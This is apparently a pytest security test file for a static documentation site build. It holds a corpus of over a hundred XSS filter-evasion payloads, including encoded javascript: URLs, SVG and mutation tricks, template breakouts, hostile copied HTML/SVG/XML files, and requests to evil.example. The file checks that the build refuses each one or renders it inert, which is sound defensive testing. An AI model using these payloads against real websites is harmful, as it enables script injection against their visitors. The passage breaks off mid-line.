"""The attack corpus: what a contributor with edit rights could try, each vector a case, built
into a copy of the site and judged three ways.

- Refused, naming the file: the guarded build (`clinic build`) stops on each case it does not
  make harmless, naming the case's file, and `clinic check` refuses the same, with the same
  problems: it is the same run (clinic_site.pipeline), thrown away. A run names every problem, so
  the whole corpus is one project, built once and checked once.
- Inert on disk: the same corpus built with every refusal switched off (only in this test: the
  sanitiser's cleaning stays, as it is how the page is published) leaves no `on...=` attribute,
  no script URL and no foreign script in the page of any case the guarded build let through.
- Inert in Chromium: that unguarded build, served with the CSP it wrote, opens no dialog on any
  page; served with no headers at all (GitHub Pages), a dialog opens only on pages of cases the
  guarded build refuses.

Channels: raw HTML and Markdown in the body (the classic filter-evasion set, raw-text elements,
comment and CDATA tricks, SVG animation, attr_list), front matter shown in templates (title,
description, subtitle, status, template + redirect location), a heading written with entities,
files copied as they are (.html, .svg), and settings shown on every page (mkdocs.yml's
site_description, clinic.yml's name: batched into the same project).
"""
from __future__ import annotations

import functools
import json
import os
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Error as PlaywrightError
from selectolax.lexbor import LexborHTMLParser

from clinic_site import guard, pipeline, published
from clinic_site.project import Project
from devtools.project_copy import copy_project
from devtools.site_build import MKDOCS_ENV
from tests import harness
from tests.harness import PROJECT_ROOT, StaticServer, build_in_process, build_site, run_python
from tests.test_security_headers import headers_for, parse_headers_file

DESCRIPTION = "One of the attack corpus pages, which must be refused or come out inert in every output."
SCRIPT_URL = re.compile(r"^\s*(?:javascript|vbscript|data):", re.I)

# ---- The page-body vectors: raw HTML and Markdown, as a contributor would type them.
BODY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(1)"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<iframe src=http://evil.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    '<BGSOUND SRC="javascript:alert(1);">',
    '<BR SIZE="&{alert(1)}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
    '<BASE HREF="javascript:alert(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,'
    'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml"></EMBED>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<object data="javascript:alert(1)"></object>',
    "<isindex action=javascript:alert(1) type=image>",
    'A paragraph.\n{: onmouseover="alert(1)" }',
    '[x](https://example.com){: onclick="alert(1)" }',
    '[x](https://example.com){: href="javascript:alert(1)" }',
    "<div markdown>\n<SCRIPT\n>alert(1)</SCRIPT>\n</div>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="#" style="behavior:url(x.htc)">x</a>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<img src="x" onerror="alert(1)"',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<p>x</p><script>alert(1)",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
    '<script type="text/x-whatever">alert(1)</script>',
    '<script data-type="application/json">alert(1)</script>',
    "# <img src=x onerror=alert(1)>",
    # Ids that stand in for the theme's own elements (Material finds its settings by #__config).
    '<p id="__config">{"base": "https://evil.example/", "features": [], "search": "https://evil.example/x.js"}</p>',
    'A paragraph.\n{: #__search }',
    "## __drawer",
    '<span data-md-component="search-result">x</span>',
    # Loading from or sending to another host, with no script at all.
    "![a pixel](https://evil.example/pixel.png)",
    '<img src="//evil.example/pixel.png" alt="x">',
    '<a href="https://evil.example/" target="_blank">x</a>',
    '<img srcset="https://evil.example/a.png 1x" alt="x">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/collect" method="post"><input name="q"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
]

REMOTE_PICTURE = f"body {BODY.index('![a pixel](https://evil.example/pixel.png)') + 1:03}"

# ---- Front matter and headings, shown by templates rather than by Markdown.
FRONT = {
    "title closing the title element": "title: 'About</title><script>alert(1)</script><title>'",
    "title breaking out of an attribute": "title: '\"><img src=x onerror=alert(1)>'",
    "title with an event handler": "title: '<img src=x onerror=alert(1)>'",
    "description breaking out of the meta tag":
        'description: \'Long enough to pass the rule: "><script>alert(1)</script> and a few more words.\'',
    "description with an attribute":
        "description: 'Long enough to pass the length rule\" onmouseover=\"alert(1)\" x=\"y, and more.'",
    "subtitle with a tag": "subtitle: '<img src=x onerror=alert(1)>'",
    "status breaking out of a class": "status: 'new\" onmouseover=\"alert(1)'",
    "redirect template to a script URL": "template: redirect.html\nlocation: 'javascript:alert(1)'",
    "redirect template closing its script": "template: redirect.html\nlocation: '\"]);alert(1);//'",
    "redirect template with a tag": "template: redirect.html\nlocation: '\"><script>alert(1)</script>'",
}
# Front matter refused as written, before any page is read (clinic_site.front_matter: the shape of
# each field). Titles and subtitles holding markup are no longer among them: every template gets
# them escaped once (engines/mkdocs/escaping.py), so they show as typed and must come out inert.
REFUSED_AS_WRITTEN: set[str] = set()
HEADINGS = {
    "heading with entities closing the title": "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "heading with an entity image": "# &lt;img src=x onerror=alert(1)&gt;",
}
# ---- docs/blog/.authors.yml: each case a person (its other fields plain) and a post by them.
AUTHORS = {
    "author name with a tag": ("name", "'<img src=x onerror=alert(1)>'"),
    "author name closing an attribute": ("name", "'Pat\" onmouseover=\"alert(1)'"),
    "author description with a script": ("description", "'</p><script>alert(1)</script>'"),
    "author avatar breaking out of src": ("avatar", "'x\" onerror=\"alert(1)'"),
    "author url with javascript:": ("url", "'javascript:alert(1)'"),
    "author url with spaced JavaScript:": ("url", "' JavaScript:alert(1)'"),
}
PERSON = {"name": "Pat Example", "description": "A person", "avatar": "assets/avatar-sample.svg", "url": "people/"}

# ---- Files copied to the site as they are.
COPIED: dict[str, str | bytes] = {
    "docs/attack/raw.html": "<!doctype html><title>x</title><script>alert(1)</script>",
    "docs/attack/handler.html": '<!doctype html><title>x</title><body onload="alert(1)">',
    "docs/assets/attack-script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "docs/assets/attack-onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    # Documents by other names, letter cases and encodings (a browser judges by the served type and bytes).
    "docs/attack/upper.HTML": "<!doctype html><title>x</title><script>alert(3)</script>",
    "docs/attack/short.htm": "<!doctype html><title>x</title><script>alert(3)</script>",
    "docs/attack/page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(3)</script></body></html>',
    "docs/attack/page.shtml": "<!doctype html><title>x</title><script>alert(3)</script>",
    "docs/attack/no-extension": "<!doctype html><title>x</title><script>alert(3)</script>",
    "docs/attack/utf16.html": "<!doctype html><title>x</title><script>alert(3)</script>".encode("utf-16"),
    "docs/attack/latin1.html": b"<!doctype html><title>caf\xe9</title><script>alert(3)</script>",
    "docs/attack/charset.html": ('<!doctype html><meta charset="utf-7"><title>x</title>'
                                 "+ADw-script+AD4-alert(3)+ADw-/script+AD4-"),
    "docs/assets/attack-upper.SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>',
    "docs/assets/attack.svgz": b"\x1f\x8b\x08\x00not really",
    # SVG and XML as an XML parser reads them, not as a regular expression does.
    "docs/assets/attack-prefixed.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(4)</s:script></s:svg>',
    "docs/assets/attack-xhtml.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><h:script '
                                     'xmlns:h="http://www.w3.org/1999/xhtml">alert(4)</h:script></svg>'),
    "docs/assets/attack-foreign.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
                                       '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(4)"/>'
                                       '</foreignObject></svg>'),
    "docs/assets/attack-entity.svg": ('<!DOCTYPE svg [<!ENTITY x "alert(4)">]><svg xmlns="http://www.w3.org/2000/svg" '
                                      'onload="&x;"/>'),
    "docs/assets/attack-cdata.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[alert(4)]]></script>'
                                     '</svg>'),
    "docs/assets/attack-remote.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/a.svg#i"/>'
                                      '</svg>'),
    "docs/attack/data.xml": '<root><script xmlns="http://www.w3.org/1999/xhtml">alert(4)</script></root>',
    "docs/attack/styled.xml": '<?xml-stylesheet type="text/xsl" href="styled.xsl"?><root/>',
    "docs/attack/styled.xsl": ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                               '<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
                               '<script>alert(4)</script></body></html></xsl:template></xsl:stylesheet>'),
    # A host's own settings, and a stylesheet loading from another host.
    "docs/attack/_redirects": "/*  https://evil.example/  302\n",
    "docs/attack/remote.css": '@import url("https://evil.example/x.css");\nbody{background:url(//evil.example/p.png)}',
    "docs/attack/refresh.html": '<!doctype html><title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/">',
}


def page(meta: str = "", body: str = "Text.", title: str | None = "An attack page") -> str:
    lines = ["---"] + ([f"title: {title}"] if title and "title:" not in meta else [])
    lines += [f"description: {DESCRIPTION}"] if "description:" not in meta else []
    lines += [meta] if meta else []
    return "\n".join(lines + ["---", "", body, ""])


def corpus() -> dict[str, tuple[str, str | bytes, str]]:
    """Every case as {name: (file, its text, kind)}: kind "body" (refused before on_env), "front"
    (front matter refused as written, before pages are read) or "output" (found in the written
    page; the check renders the pages to find it too)."""
    cases = {}
    for number, vector in enumerate(BODY, start=1):
        cases[f"body {number:03}"] = (f"docs/attack/body-{number:03}.md",
                                      page(body=f"# Case {number}\n\n{vector}"), "body")
    cases["control: plain text"] = ("docs/attack/control.md",
                                    page(body="# Case 0\n\nPlain *text*, a [link](https://example.com)."), "body")
    for number, (name, meta) in enumerate(FRONT.items(), start=1):
        kind = "front" if name in REFUSED_AS_WRITTEN else "output"
        cases[name] = (f"docs/attack/front-{number:02}.md", page(meta=meta, body="# A page\n\nText."), kind)
    for number, (name, heading) in enumerate(HEADINGS.items(), start=1):
        cases[name] = (f"docs/attack/heading-{number:02}.md", page(body=f"{heading}\n\nText.", title=None), "output")
    for path, text in COPIED.items():
        cases[f"copied {path}"] = (path, text, "output")
    for number, name in enumerate(AUTHORS, start=1):
        post = (f"---\ndate:\n  created: 2026-11-25\nauthors:\n  - attacker-{number}\ncategories:\n  - Clinic news\n"
                f"description: {DESCRIPTION}\nslug: attack-author-{number}\n---\n\n# Author case {number}\n\nText.\n")
        cases[name] = (f"docs/blog/posts/attack-author-{number}.md", post, "output")
    return cases


def authors_entries() -> str:
    """The .authors.yml entries of the author cases: attacker-1, attacker-2, …"""
    entries = []
    for number, (field, value) in enumerate(AUTHORS.values(), start=1):
        person = {**PERSON, field: value.replace("alert(1)", f"alert({100 + number})")}
        entries.append(f"  attacker-{number}:\n" + "".join(f"    {key}: {person[key]}\n" for key in PERSON))
    return "".join(entries)


CASES = corpus()


def make_corpus(target: Path, kinds: set[str]) -> Path:
    project = copy_project(target)
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert "not_in_nav: |\n  people/*.md\n" in text, "mkdocs.yml's not_in_nav changed; update this test"
    config.write_text(text.replace("not_in_nav: |\n  people/*.md\n", "not_in_nav: |\n  people/*.md\n  attack/*.md\n"),
                      encoding="utf-8")
    (project / "docs/attack").mkdir(exist_ok=True)
    write_settings_cases(project)
    if "output" in kinds:
        authors = project / "docs/blog/.authors.yml"
        text = authors.read_text(encoding="utf-8")
        assert "\nauthors:\n" in text
        authors.write_text(text.replace("\nauthors:\n", "\nauthors:\n" + authors_entries(), 1), encoding="utf-8")
    for path, body, kind in CASES.values():
        if kind in kinds:
            if isinstance(body, bytes):
                (project / path).write_bytes(body)
            else:
                (project / path).write_text(body, encoding="utf-8")
    return project


def named(output: str, path: str) -> bool:
    """True when a problem line of `output` names `path` (as staff see it: "docs/…")."""
    return any(line.split(", line ", 1)[0] == path for line in output.splitlines() if ", line " in line)


def test_the_corpus_has_over_a_hundred_cases():
    assert len(CASES) >= 100


@pytest.fixture(scope="module")
def corpus_project(tmp_path_factory) -> Path:
    """The whole corpus in one copy of the site, the settings cases included."""
    return make_corpus(tmp_path_factory.mktemp("corpus") / "project", {"body", "front", "output"})


@pytest.fixture(scope="module")
def refused(corpus_project) -> dict[str, str]:
    """The guarded build's output ("build") and the check's problems ("check") for the whole corpus."""
    built = build_site(corpus_project / "site", corpus_project / "mkdocs.yml", "--no-spelling")
    assert built.returncode != 0, "the build accepted the corpus"
    assert "Traceback" not in built.stdout + built.stderr
    assert not list((corpus_project / "site").rglob("*.html")), "a failed build publishes nothing"
    checked = pipeline.check(Project.find(corpus_project / "mkdocs.yml"), spelling=False)
    return {"build": built.stdout + built.stderr, "check": "\n".join(str(problem) for problem in checked)}


@pytest.fixture(scope="module")
def unguarded(corpus_project) -> Path:
    """The whole corpus built with every refusal switched off (the published pages still go
    through the sanitiser): what the browser would get if a refusal were missing."""
    script = ("import sys\n"
              "from clinic_site import guard, pipeline, sanitize\n"
              "guard.unlisted_code = lambda *args: []\n"
              "guard.OutputGuard.note = lambda *args: None\n"
              "guard.OutputGuard.refuse = lambda *args: None\n"
              "sanitize.problems_at = lambda *args: []\n"
              "pipeline.finish = lambda run, site_dir: sorted(run.problems)\n"
              # no social cards: pictures of the titles are not what a browser could run, and the
              # guarded build above draws them
              "build = pipeline.Run.__init__\n"
              "pipeline.Run.__init__ = lambda self, *a, **k: build(self, *a, **{**k, 'cards': False})\n"
              "from mkdocs.__main__ import cli\n"
              "sys.argv = ['mkdocs', 'build', '--site-dir', sys.argv[1]]\n"
              "cli()\n")
    site = corpus_project / "unguarded-site"
    built = run_python(["-c", script, str(site)], cwd=corpus_project, env={"PATH": "/usr/bin:/bin", **MKDOCS_ENV, **{
        key: os.environ[key] for key in ("PYTHONPATH",) if key in os.environ}})
    assert built.returncode == 0, built.stdout + built.stderr
    return site


def built_path(path: str) -> str:
    """The site path a case's file is written to."""
    relative = path.removeprefix("docs/")
    if relative.startswith("blog/posts/"):  # the author cases' posts: created 2026-11-25, slug = file name
        return f"blog/2026/11/25/{Path(relative).stem}/index.html"
    return relative.removesuffix(".md") + "/index.html" if relative.endswith(".md") else relative


def is_refused(refused: dict[str, str], name: str) -> bool:
    """True when the guarded build names the case's file; for an author case, .authors.yml on
    the line of the case's field."""
    path, _text, _kind = CASES[name]
    if name in AUTHORS:
        field = AUTHORS[name][0]
        line = author_field_line(list(AUTHORS).index(name) + 1, field)
        number = list(AUTHORS).index(name) + 1
        return f"docs/blog/.authors.yml, line {line}: 'authors.attacker-{number}.{field}' " in refused["build"]
    return named(refused["build"], path)


def author_field_line(number: int, field: str) -> int:
    """The line of attacker-`number`'s `field` in the corpus's .authors.yml (entries go right
    after the line `authors:`, each a line for the id and one per field of PERSON)."""
    text = (PROJECT_ROOT / "docs/blog/.authors.yml").read_text(encoding="utf-8")
    start = text.splitlines().index("authors:") + 1
    return start + (number - 1) * (len(PERSON) + 1) + 1 + list(PERSON).index(field) + 1


@pytest.mark.parametrize("name", list(CASES))
def test_each_case_is_refused_naming_its_file_or_comes_out_inert(refused, unguarded, name):
    path, _text, _kind = CASES[name]
    # The check says exactly what the build says, about every file.
    build_lines = {line for line in refused["build"].splitlines() if line.startswith(path + ", line ")}
    check_lines = {line for line in refused["check"].splitlines() if line.startswith(path + ", line ")}
    assert build_lines == check_lines
    if is_refused(refused, name):
        return
    # Let through: the page as published (the unguarded build differs only in not refusing).
    text = (unguarded / built_path(path)).read_text(encoding="utf-8")
    assert not _dangerous(text), f"{path} holds an event handler or a script URL: {_dangerous(text)}"
    allowed = set(re.findall(r"'sha256-[^']+'", (unguarded / "_headers").read_text(encoding="utf-8")))
    scripts, styles, attributes = guard.inline_code(text.encode("utf-8"))
    assert {guard.csp_hash(code) for code in scripts | styles} <= allowed and not attributes, \
        f"{path} holds inline code that is not the site's own"


PROBLEM = re.compile(r"^(?:docs/|mkdocs\.yml|site/)[^,]*, line \d+: (?!warning: )")


def test_the_check_refuses_what_the_build_refuses(refused):
    """Every error line the guarded build prints, the check prints too, and nothing more."""
    built = {line for line in refused["build"].splitlines() if PROBLEM.match(line)}
    checked = {line for line in refused["check"].splitlines() if PROBLEM.match(line)}
    assert built, "the build refused nothing"
    assert checked == built, f"only the check: {sorted(checked - built)}\nonly the build: {sorted(built - checked)}"


def test_the_corpus_page_itself_is_accepted(refused):
    """The control: a corpus page with plain text passes, so each refusal is the vector's."""
    assert not named(refused["build"], CASES["control: plain text"][0])
    assert not named(refused["check"], CASES["control: plain text"][0])


def test_the_search_index_is_data_only_whatever_a_case_writes(unguarded):
    """The site search's index (search-index/) is data the search shows as text only
    (overrides/assets/search-text.js): in the unguarded build, every one of its files is JSON,
    which the published allowlist reads as passive, none a document a browser would build, and
    the words of a case are in it as text (a corpus page is indexed, so the channel was exercised)."""
    from clinic_site.postbuild import site_search
    files = site_search.files(unguarded)
    assert files and {published.kind_of(path) for path in files} == {"passive"}, files
    assert {path.rsplit(".", 1)[-1] for path in files} == {"json"}, files
    for path in files:   # JSON a parser reads, whatever the cases wrote
        json.loads((unguarded / path).read_text(encoding="utf-8"))
    indexed = {page["url"] for page in harness.indexed_pages(unguarded)}
    folders = {"/" + built_path(path).removesuffix("index.html") for _name, (path, _t, _k) in CASES.items()}
    assert indexed & folders, "no corpus page is in the index"


@pytest.mark.build
def test_the_preview_serves_nothing_its_guard_flags(corpus_project, tmp_path):
    """`clinic serve` shows each problem on the page instead of stopping: a page its guard flags
    is replaced by its problems and any other flagged file is left out, so every file the preview
    serves holds only the site's own code, within the allowlist."""
    site = tmp_path / "preview"
    run = build_in_process(corpus_project / "mkdocs.yml", site, mode="serve", spelling=False)
    code = run.output.site_code
    served = [path for path in site.rglob("*") if path.is_file()]
    withheld = site / built_path(CASES["copied docs/attack/raw.html"][0])
    assert "<script" not in withheld.read_text(encoding="utf-8").lower()
    assert "docs/attack/raw.html" in withheld.read_text(encoding="utf-8"), "the withheld page names its problem"
    assert not (site / built_path(CASES["copied docs/assets/attack-onload.svg"][0])).exists()
    for path in served:
        dest = path.relative_to(site).as_posix()
        if dest.startswith("admin/"):
            continue   # the editor's folder, held to its own rule (postbuild/editor.py, tests/test_editor.py)
        assert published.kind_of(dest) != "refused" or dest == "_headers", dest
        if published.kind_of(dest) in ("html", "xml"):
            text = path.read_text(encoding="utf-8")
            assert guard.unlisted_code(text, dest, code) == [], dest


def _dangerous(text: str) -> list[str]:
    """Event handler attributes and script URLs in a page, read with an HTML parser."""
    soup = BeautifulSoup(text, "html.parser")
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on") or SCRIPT_URL.match(re.sub(r"[\x00-\x20]", "", value or "")):
                found.append(f"<{tag.name} {name}={value!r}>")
    return found


def _dialogs(browser, site: Path, rules, paths: list[str]) -> tuple[dict[str, list[str]], list[str]]:
    """({path: what ran or reached another host on that page: dialog messages and "request to …"},
    [pages that did not finish loading, with why]) for each page, served with `rules`."""
    opened: dict[str, list[str]] = {}
    moved: list[str] = []
    with StaticServer(site, headers_for=functools.partial(headers_for, rules), host_404=True) as server:
        context = browser.new_context(base_url=server.url)
        # A few pages at a time, each batch in the same six tabs (a new tab per page cost more than
        # the page): the browser loads them side by side while the test waits on the first. Each
        # tab's events go to the page it was last sent to; a page that reloads itself or goes
        # elsewhere stays there until its tab is sent to the next one.
        tabs = [context.new_page() for _ in range(min(6, len(paths)))]
        showing: dict[object, list[str]] = {}
        for tab in tabs:
            tab.on("dialog", functools.partial(_record_dialog, showing, tab))
            tab.on("requestfailed", functools.partial(_record_remote, showing, tab))
            tab.on("requestfinished", functools.partial(_record_remote, showing, tab))
        for start in range(0, len(paths), len(tabs)):
            sent = []
            for path, tab in zip(paths[start:start + len(tabs)], tabs, strict=False):
                showing[tab] = opened.setdefault(path, [])
                try:
                    tab.goto("/" + path, wait_until="commit", timeout=10_000)
                except PlaywrightError as error:
                    moved.append(f"{path}: {str(error).splitlines()[0]}")
                sent.append((path, tab))
            for path, tab in sent:
                try:
                    tab.wait_for_load_state("load", timeout=10_000)
                    tab.evaluate(PROVOKE)
                except PlaywrightError as error:  # a page that navigates itself away (a redirect page)
                    moved.append(f"{path}: {str(error).splitlines()[0]}")
        context.close()
    return {path: messages for path, messages in opened.items() if messages}, moved


# What a focus can reach: every element focus() may focus (a superset: focus() does nothing on the rest).
FOCUSABLE = ("a[href], a[*|href], area[href], button, input, select, textarea, iframe, summary, object, embed, "
             "audio[controls], video[controls], [tabindex], [contenteditable]")
# Give handlers that need the pointer or focus a chance, in one call per page: hover every element
# (a bubbling mouseover: inline handlers and any listener a script added), then focus each element
# that holds an inline handler (on…=) and every element under it that can take focus (for
# onfocusin), and take the focus away at the end (for onblur, onfocusout). Focusing every element
# of the page instead, as this once did, cost about a tenth of a second a page, most of the test's
# time (each focus redoes the page's style), for nothing more: a focus can only run an inline
# handler on the element or around it, and the site's own listeners are not a case's.
# test_the_detector_sees_handlers_that_need_hover_or_focus shows each kind still opens its dialog.
PROVOKE = """() => {
  for (const el of document.querySelectorAll('*')) el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
  const handled = [...document.querySelectorAll('*')].filter(
    el => el.getAttributeNames().some(name => name.toLowerCase().startsWith('on')));
  for (const el of handled) {
    for (const target of [el, ...el.querySelectorAll('FOCUSABLE')]) {
      if (target.focus) target.focus({preventScroll: true});
    }
  }
  if (document.activeElement && document.activeElement.blur) document.activeElement.blur();
}""".replace("FOCUSABLE", FOCUSABLE)


# Pages that run a script only when an element is hovered, focused, focused inside or left, and a
# control that runs none: what the detector must see (test_the_detector_sees_handlers_…).
NEEDS_A_VISITOR = {   # page: (its body, the dialog it opens when provoked)
    "hover/": ('<p>Text <img src="/x.png" alt="x" onmouseover="alert(1)"> more.</p>', "1"),
    "nested-hover/": ('<nav><ul><li><a href="/"><span onmouseover="alert(2)">x</span></a></li></ul></nav>', "2"),
    "focus/": ('<p><input name="q" onfocus="alert(3)"></p>', "3"),
    "tabindex/": ('<p><span tabindex="0" onfocus="alert(4)">x</span></p>', "4"),
    "focusin/": ('<div onfocusin="alert(5)"><p><a href="/">a link</a></p></div>', "5"),
    "blur/": ('<p><a href="/" onblur="alert(6)">a link</a></p>', "6"),
    "svg-link/": ('<svg><a href="/" onfocus="alert(7)"><text x="9" y="9">x</text></a></svg>', "7"),
    "control/": ('<p><a href="/">a link</a> <input name="q"></p>', None),
}


@pytest.mark.browser
def test_the_detector_sees_handlers_that_need_hover_or_focus(browser, tmp_path):
    """The browser tests above open a page and provoke it (PROVOKE) rather than hover and focus
    every element: on pages whose scripts run only when the pointer or the focus reaches them,
    served with no policy, each dialog opens; on the control, none does."""
    for path, (body, _message) in NEEDS_A_VISITOR.items():
        (tmp_path / path).mkdir(parents=True)
        (tmp_path / path / "index.html").write_text(
            f'<!doctype html><html lang="en"><title>x</title><body><main>{body}</main></body></html>', encoding="utf-8")
    opened, moved = _dialogs(browser, tmp_path, [], list(NEEDS_A_VISITOR))
    assert moved == []
    assert opened == {path: [message] for path, (_body, message) in NEEDS_A_VISITOR.items() if message}


def _record_dialog(showing: dict, tab, dialog) -> None:
    showing[tab].append(dialog.message)
    try:
        dialog.dismiss()
    except PlaywrightError:   # the page already navigated away (a redirect case)
        pass


def _record_remote(showing: dict, tab, request) -> None:
    """A request the page made to any host but the test server's (the site promises none), unless
    the CSP blocked it before it left. A navigation (a refresh, a redirect page) is named as such:
    no CSP can stop one, only the guard."""
    host = urlsplit(request.url).hostname or ""
    if not request.url.startswith(("http:", "https:")) or host in ("127.0.0.1", "localhost"):
        return
    if "ERR_BLOCKED_BY_CSP" in (request.failure or "") or "csp" in (request.failure or "").lower():
        return
    kind = "navigation" if request.is_navigation_request() else "request"
    showing[tab].append(f"{kind} to {request.url}")


def _only_expected_moves(moved: list[str], opened: dict[str, list[str]]) -> bool:
    """True when every page that did not finish loading is a redirect-template case, a file the
    browser downloads, or a page seen navigating itself away (a refresh: named in `opened`)."""
    return all(entry.startswith(REDIRECTING) or DOWNLOADED in entry
               or any(item.startswith("navigation to ") for item in opened.get(entry.split(": ", 1)[0], []))
               for entry in moved)


# What Playwright says of a file the browser downloads rather than shows (it runs nothing).
DOWNLOADED = "Download is starting"
# The pages that may navigate themselves away before they finish loading: the redirect-template cases.
REDIRECTING = tuple(built_path(path).removesuffix("index.html") for name, (path, _text, _kind) in CASES.items()
